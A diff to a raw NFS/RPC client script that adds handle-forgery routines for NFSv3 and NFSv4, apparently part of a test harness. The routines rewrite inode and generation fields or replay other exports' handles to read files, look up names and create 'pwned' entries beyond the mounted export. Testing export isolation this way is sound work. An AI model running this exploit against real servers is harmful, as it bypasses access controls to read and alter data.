@@ -11,10 +11,12 @@ Standard library only (RFC 5531 RPC, RFC 1813 NFSv3 and MOUNT, RFC 7530 NFSv4.0)
 
 from __future__ import annotations
 
+import json
 import os
 import random
 import socket
 import struct
+import sys
 
 PMAP, MOUNT, NFS = 100000, 100005, 100003
 AUTH_NONE, AUTH_SYS = 0, 1
@@ -90,7 +92,7 @@ def auth_sys(uid=0, gid=0, machine='pi'):
 class Rpc:
     """One TCP connection to one RPC program, from a privileged source port (like a kernel client)."""
 
-    def __init__(self, host, port, prog, vers, uid=0, timeout=10):
+    def __init__(self, host, port, prog, vers, *, uid=0, timeout=10):
         self.prog, self.vers, self.cred = prog, vers, auth_sys(uid, uid)
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         self.sock.settimeout(timeout)
@@ -313,3 +315,133 @@ def replace_at(handle, offset, data):
 
 def random_name(prefix='pwned'):
     return '%s-%s' % (prefix, os.urandom(4).hex())
+
+
+# --------------------------------------------------------------------------- the attack a test runs from a Pi
+
+
+def _targets(spec):
+    """(inode, generation) pairs to forge: a bare inode number is tried with generation 0 (ext4 then skips the
+    check) and, when given as [ino, gen], with the real generation too (an attacker who guessed it: XFS checks)."""
+    pairs = []
+    for target in spec['targets']:
+        ino, gen = (target, None) if isinstance(target, int) else target
+        pairs += [(ino, 0)] + ([(ino, gen)] if gen else [])
+    return pairs
+
+
+def _forge(fh, offsets, ino, gen):
+    """``fh`` with another inode and generation at each place the known inode sits, in both layouts the
+    kernel uses: 32-bit inode + generation (ext4), 64-bit inode + generation (XFS with its 64FLAG)."""
+    for off in offsets:
+        yield replace_at(fh, off, struct.pack('<II', ino, gen))
+        if off + 12 <= len(fh):
+            yield replace_at(fh, off, struct.pack('<QI', ino, gen))
+
+
+def _try(what, func, *args):
+    try:
+        status, value = func(*args)
+    except (RpcError, OSError) as exc:
+        return {'op': what, 'status': 'rpc:%s' % exc, 'value': None}
+    return {'op': what, 'status': status, 'value': value}
+
+
+def _attr(nfs, fh):
+    res = _try('getattr', nfs.getattr, fh)
+    return res['value'] if res['status'] == NFS3_OK else None
+
+
+def forge_v3(spec):
+    """Forged NFSv3 handles against ``spec['export']`` on ``spec['server']``, from this host: observations.
+
+    ``known`` is a path inside the export whose inode number locates the inode field of a handle;
+    ``targets`` are inode numbers to forge (generation zeroed); ``names`` are looked up and read
+    from every forged directory; ``foreign`` are handles of other exports (hex) to replay as they
+    are, with this export's id, and this export's id with their file system. Every object that
+    answers is reported with its fsid and fileid, every READ with its data (hex), every CREATE.
+    """
+    server, known, names = spec['server'], spec['known'], spec['names']
+    status, root = mount3(server, spec['export'])
+    if status != 0:
+        return [{'op': 'mount', 'status': status}]
+    nfs = Nfs3(server)
+    seen = [{'op': 'mount', 'status': 0, 'fsid': _attr(nfs, root)['fsid']}]
+    status, fh = nfs.walk(root, known)
+    ino = _attr(nfs, fh)['fileid']
+    offsets = find_le32(fh, ino)
+    forged = [('ino %d gen %d' % (ino_, gen), forged_fh) for ino_, gen in _targets(spec)
+              for forged_fh in _forge(fh, offsets, ino_, gen)]
+    for text in spec.get('foreign', ()):
+        other = bytes.fromhex(text)
+        forged.append(('foreign handle', other))
+        forged.append(('foreign handle, our export id', other[:2] + root[2:4] + other[4:]))
+        forged.append(('our export id, foreign file system', root[:5] + other[5:]))
+    for label, handle in forged:
+        attr = _attr(nfs, handle)
+        seen.append({'op': 'getattr', 'handle': label, 'ok': attr is not None,
+                     'fsid': attr and attr['fsid'], 'fileid': attr and attr['fileid']})
+        read = _try('read', nfs.read, handle)
+        seen.append({'op': 'read', 'handle': label, 'ok': read['status'] == NFS3_OK,
+                     'data': read['value'].hex() if read['status'] == NFS3_OK else None, 'fsid': attr and attr['fsid']})
+        for name in names:
+            found = _try('lookup', nfs.walk, handle, name)
+            if found['status'] != NFS3_OK:
+                seen.append({'op': 'lookup', 'handle': label, 'name': name, 'ok': False})
+                continue
+            inner = _attr(nfs, found['value'])
+            data = _try('read', nfs.read, found['value'])
+            seen.append({'op': 'lookup', 'handle': label, 'name': name, 'ok': True, 'fsid': inner and inner['fsid'],
+                         'data': data['value'].hex() if data['status'] == NFS3_OK else None})
+        name = random_name()
+        created = _try('create', nfs.create, handle, name)
+        seen.append({'op': 'create', 'handle': label, 'name': name, 'ok': created['status'] == NFS3_OK,
+                     'fsid': attr and attr['fsid']})
+    nfs.close()
+    return seen
+
+
+def forge_v4(spec):
+    """The same forgeries over NFSv4 (PUTFH), with CREATE of a directory as the write."""
+    known, names = spec['known'], spec['names']
+    nfs = Nfs4(spec['server'])
+    status, root = nfs.handle_of(spec['export'])
+    if status != NFS4_OK:
+        return [{'op': 'putrootfh', 'status': status}]
+    seen = []
+    status, fh = nfs.lookup_path(root, known)
+    ino = nfs.getattr(fh)[1]
+    offsets = find_le32(fh, ino)
+    forged = [('ino %d gen %d' % (ino_, gen), forged_fh) for ino_, gen in _targets(spec)
+              for forged_fh in _forge(fh, offsets, ino_, gen)]
+    for text in spec.get('foreign', ()):
+        forged.append(('foreign handle', bytes.fromhex(text)))
+    for label, handle in forged:
+        status, fileid = nfs.getattr(handle)
+        seen.append({'op': 'getattr4', 'handle': label, 'ok': status == NFS4_OK, 'fileid': fileid})
+        status, data = nfs.read(handle)
+        seen.append({'op': 'read4', 'handle': label, 'ok': status == NFS4_OK, 'data': data.hex() if data else None})
+        for name in names:
+            status, data = nfs.read(handle, name)
+            seen.append({'op': 'lookup-read4', 'handle': label, 'name': name, 'ok': status == NFS4_OK,
+                         'data': data.hex() if data else None})
+        name = random_name()
+        status = nfs.mkdir(handle, name)
+        seen.append({'op': 'create4', 'handle': label, 'name': name, 'ok': status == NFS4_OK})
+    nfs.close()
+    return seen
+
+
+def main(argv=None):
+    """``rawnfs.py forge3|forge4|handle3 <json>``: run from a Pi's namespace; prints JSON."""
+    args = sys.argv[1:] if argv is None else argv
+    spec = json.loads(args[1])
+    if args[0] == 'handle3':
+        status, fh = mount3(spec['server'], spec['export'])
+        print(json.dumps({'status': status, 'handle': fh.hex() if fh else None}))
+        return
+    print(json.dumps((forge_v3 if args[0] == 'forge3' else forge_v4)(spec)))
+
+
+if __name__ == '__main__':
+    main()
